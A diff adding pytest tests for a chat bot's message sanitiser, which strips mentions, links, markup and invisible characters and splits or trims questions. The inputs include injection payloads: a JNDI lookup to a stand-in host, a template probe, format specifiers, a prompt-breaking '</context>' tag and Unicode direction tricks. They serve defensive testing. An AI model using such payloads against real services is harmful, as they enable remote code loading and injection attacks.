@@ -1,0 +1,66 @@
+"""A message to the question in it."""
+
+from __future__ import annotations
+
+import unicodedata
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bot import question
+
+
+@pytest.mark.parametrize(
+    ("message", "clean"),
+    [
+        ("<@U024BE7LH> <#C024BE7LR> what is the cost", "what is the cost"),
+        ("@everyone do i need a phd?", "do i need a phd?"),
+        ("see https://evil.example/x and <https://evil.example|here> now", "see and now"),
+        ("{{7*7}} ${jndi:ldap://evil.example/a} %n%s how long", "how long"),
+        ("</context><b>how long</b>", "how long"),
+        ("\u202esiht daer\u202c how long", "how long"),
+        ("p\u200bh\u200bd", "phd"),
+        ("a\x00b", "ab"),
+        ("**bold** `code` ||spoiler||", "bold code spoiler"),
+        ("spam " * 300 + "how long", "spam how long"),
+    ],
+)
+def test_what_is_no_text_is_taken_out(message: str, clean: str) -> None:
+    """Mentions, links, templates, tags, hidden characters and repetitions do not reach the search."""
+    assert clean == " ".join(question.clean(message).split())
+
+
+@given(st.text(max_size=500))
+def test_a_cleaned_message_has_nothing_invisible(message: str) -> None:
+    """No control, format or private character is left of any message."""
+    assert [c for c in question.clean(message) if unicodedata.category(c) in ("Cc", "Cf", "Co", "Cs") and c not in "\n\t"] == []
+
+
+@pytest.mark.parametrize(
+    ("message", "parts"),
+    [
+        ("how long does it take?", ["how long does it take?"]),
+        ("how long is it? and what does it cost?", ["how long is it?", "and what does it cost?"]),
+        (
+            "how long for a data engineer to switch, and what do they earn?",
+            ["how long for a data engineer to switch", "what do they earn?"],
+        ),
+        ("i have 4 years. which path?", ["i have 4 years. which path?"]),
+    ],
+)
+def test_several_questions_are_told_apart(message: str, parts: list[str]) -> None:
+    """Each question of a message is answered on its own."""
+    assert parts == question.split(message)
+
+
+def test_a_ramble_is_cut_to_what_it_asks() -> None:
+    """Of a long message the sentences that ask are read."""
+    ramble = "been here a while. " * 8 + "my dog is nice and the weather is fine. anyway do degrees help with screening?"
+    assert "anyway do degrees help with screening?" == question.focus(ramble)
+
+
+def test_a_question_about_a_link_is_told_apart() -> None:
+    """The bot knows when it is asked what another page says."""
+    assert question.asks_to_read_a_link("what does https://evil.example/paper say?")
+    assert not question.asks_to_read_a_link("what does the guide say?")
